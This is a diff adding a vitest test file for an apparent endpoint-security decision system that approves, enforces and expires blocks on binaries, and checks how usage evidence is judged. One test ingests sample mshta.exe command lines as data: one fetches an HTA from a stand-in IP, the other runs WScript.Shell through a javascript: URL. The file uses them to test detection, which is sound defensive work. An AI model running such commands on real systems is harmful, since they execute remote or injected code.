@@ -1,0 +1,159 @@
+import { describe, expect, test } from 'vitest'
+import { readEvidence } from '@/lib/pipeline/decision/evidence'
+import { listBlocks } from '@/lib/store/blocks'
+import { pool } from '@/lib/store/pool'
+import { prisma } from '@/lib/store/prisma'
+import { loadDecision } from '@/lib/store/screens/decision/detail'
+import { examplePerson } from '../example-person'
+import { ingestExamples } from '../ingest/example-use'
+import { recompute } from '../recompute/recompute'
+import { changeDecisionSettings } from './change-decision-settings'
+import { decide } from './decide'
+import { actionsOn, exampleFleet, exampleProposal, exampleUse, stateOf } from './example-decisions'
+import { expireDecisions } from './expire-decisions'
+import { moveRing } from './move-ring'
+import { watchDecisions } from './watch-decisions'
+
+const actor = exampleFleet()
+const approve = (name: string, id: number, version: number) =>
+  decide(actor(name), { id, version, move: 'approve', comment: '' })
+const shown = async (id: number) => {
+  const found = await loadDecision({ kind: 'all' }, id, {
+    accountId: actor('mia').accountId,
+    mayDecide: true,
+  })
+  if (found === null) throw new Error(`no decision ${id}`)
+  return found
+}
+const enforced = async () => {
+  const id = await exampleProposal(actor('ada'))
+  await approve('mia', id, 1)
+  const { id: ringId } = await prisma().decisionRing.findFirstOrThrow({ where: { decisionId: id } })
+  await moveRing(actor('mia'), { id, version: 2, ringId, move: 'enforce', reason: 'go' })
+  return { id, ringId }
+}
+
+describe('an approval that became stale', () => {
+  test('the first of two counts for nothing once its giver may no longer decide, and the page says so', async () => {
+    const admin = await examplePerson('root', 'admin')
+    await changeDecisionSettings(admin, { twoForFleet: true })
+    const mia = { where: { id: actor('mia').accountId } }
+    const third = await examplePerson('moe', 'manager')
+    const id = await exampleProposal(actor('ada'))
+    await approve('mia', id, 1)
+    for (const lost of [{ role: 'responder' }, { role: 'manager', disabledAt: new Date() }]) {
+      await prisma().account.update({ ...mia, data: lost })
+      expect((await shown(id)).approvals).toMatchObject([{ name: 'mia', counts: false }])
+    }
+    await approve('max', id, 2)
+    expect(await stateOf(id)).toBe('proposed')
+    await decide(third, { id, version: 3, move: 'approve', comment: '' })
+    expect(await stateOf(id)).toBe('approved')
+    await prisma().account.update({ ...mia, data: { role: 'manager', disabledAt: null } })
+    await changeDecisionSettings(admin, { twoForFleet: false })
+  })
+  test('where one is enough meanwhile, who gave the first may conclude', async () => {
+    const admin = await examplePerson('ruth', 'admin')
+    await changeDecisionSettings(admin, { twoForFleet: true })
+    const id = await exampleProposal(actor('ada'))
+    await approve('mia', id, 1)
+    await changeDecisionSettings(admin, { twoForFleet: false })
+    await approve('mia', id, 2)
+    expect(await stateOf(id)).toBe('approved')
+  })
+})
+
+describe('what one decision does to the others', () => {
+  test('a ring without groups is everything else, and neither stops the worker nor the policies', async () => {
+    const { id, ringId } = await enforced()
+    await expect(
+      pool().query('UPDATE decision_ring SET group_ids = NULL WHERE id = $1', [ringId]),
+    ).rejects.toThrow(/not-null/)
+    await watchDecisions(pool())
+    expect((await shown(id)).rings[0]?.watch).toMatchObject({ hosts: 3 })
+  })
+  test('one that cannot be read is passed over by the worker, and policies are refused without it', async () => {
+    const broken = await enforced()
+    const whole = await exampleProposal(actor('ada'), {}, 'cmstp.exe')
+    await approve('mia', whole, 1)
+    const ring = await prisma().decisionRing.findFirstOrThrow({ where: { decisionId: whole } })
+    await moveRing(actor('mia'), { id: whole, version: 2, ringId: ring.id, move: 'enforce', reason: 'go' })
+    await prisma().decision.update({ where: { id: broken.id }, data: { exceptions: [{ kind: 'moon' }] } })
+    await watchDecisions(pool())
+    const watched = await prisma().decisionRing.findUniqueOrThrow({ where: { id: ring.id } })
+    expect(watched.watchedAt).not.toBeNull()
+    await expect(listBlocks(pool(), '2026-02-01')).rejects.toThrow(`decision ${broken.id} cannot be read`)
+  })
+  test('one that cannot be ended does not keep others from ending', async () => {
+    const stuck = await exampleProposal(actor('ada'), { expiresOn: '2099-03-31' })
+    await approve('mia', stuck, 1)
+    await prisma().decision.update({ where: { id: stuck }, data: { exceptions: { not: 'a list' } } })
+    const ends = await exampleProposal(actor('ada'), { expiresOn: '2099-03-31' }, 'cmstp.exe')
+    await approve('mia', ends, 1)
+    await expireDecisions(new Date('2099-02-01T00:00:00Z'))
+    await expireDecisions(new Date('2099-04-01T00:00:00Z'))
+    expect(await stateOf(ends)).toBe('expired')
+  })
+})
+
+describe('what disappeared', () => {
+  test('a decision on a host that was deleted is shown, judged and blocks nothing', async () => {
+    const { id: hostId } = await prisma().host.create({ data: { name: 'gone-1' } })
+    const id = await exampleProposal(actor('ada'), { scope: { kind: 'hosts', ids: [hostId] } })
+    await prisma().host.delete({ where: { id: hostId } })
+    expect(await shown(id)).toMatchObject({ where: 'hosts that are gone', now: { hosts: 0 } })
+    await approve('mia', id, 1)
+    expect(await listBlocks(pool(), '2026-02-01')).toMatchObject([{ decisionId: id, hosts: [] }])
+  })
+  test('an account with decisions cannot be deleted: what it did keeps its name', async () => {
+    const gone = await examplePerson('gus', 'responder')
+    const id = await exampleProposal(gone)
+    await expect(prisma().account.delete({ where: { id: gone.accountId } })).rejects.toThrow()
+    await prisma().account.update({ where: { id: gone.accountId }, data: { disabledAt: new Date() } })
+    expect(await shown(id)).toMatchObject({ proposedBy: 'gus', authorGone: true })
+  })
+})
+
+describe('what the evidence has to say', () => {
+  test('patterns judged malicious, or still open, are said before anything else', async () => {
+    const id = await exampleProposal(actor('ada'))
+    await ingestExamples(pool(), [
+      exampleUse('ws-1', 6, 'mshta.exe http://203.0.113.9/a.hta'),
+      exampleUse('ws-1', 6, 'mshta.exe javascript:new%20ActiveXObject("WScript.Shell").Run("calc")'),
+    ])
+    await recompute(pool())
+    await pool().query("UPDATE deviation SET state = 'malicious' WHERE id = (SELECT min(id) FROM deviation)")
+    const { concerns, changes } = await shown(id)
+    expect(concerns.map(({ key }) => key)).toEqual(expect.arrayContaining(['malicious', 'open']))
+    expect(changes.map(({ key }) => key)).toContain('malicious')
+    await expect(approve('mia', id, 1)).rejects.toThrow(/judged malicious/)
+  })
+  test('without history nothing is suggested, then and now, and the proposal keeps that', async () => {
+    const { id: hostId } = await prisma().host.create({ data: { name: 'new-1' } })
+    const id = await exampleProposal(actor('ada'), { scope: { kind: 'hosts', ids: [hostId] } })
+    const { evidence, concerns, now } = await shown(id)
+    expect(concerns.map(({ key }) => key)).toContain('no-history')
+    for (const known of [evidence, now]) {
+      expect(known?.suggestion?.verdict).toBeNull()
+      expect(known?.suggestion?.reasons[0]).toMatch(/^Nothing is suggested/)
+    }
+  })
+  test('what was suggested is frozen with the proposal and with the approval', async () => {
+    const id = await exampleProposal(actor('ada'))
+    await approve('mia', id, 1)
+    const { evidence, decidedEvidence } = await prisma().decision.findUniqueOrThrow({ where: { id } })
+    for (const kept of [evidence, decidedEvidence])
+      expect(readEvidence(kept)?.suggestion?.reasons[0]).toMatch(
+        /^Nothing is suggested: the history is 2 days/,
+      )
+  })
+})
+
+test('a clock that jumps forward ends a decision once, and one that jumps back revives nothing', async () => {
+  const id = await exampleProposal(actor('ada'), { expiresOn: '2099-03-31' })
+  await approve('mia', id, 1)
+  for (const at of ['2199-01-01', '1999-01-01', '2199-01-01'])
+    await expireDecisions(new Date(`${at}T00:00:00Z`))
+  expect(await stateOf(id)).toBe('expired')
+  expect((await actionsOn(id)).filter((action) => action === 'decision-expired')).toHaveLength(1)
+})
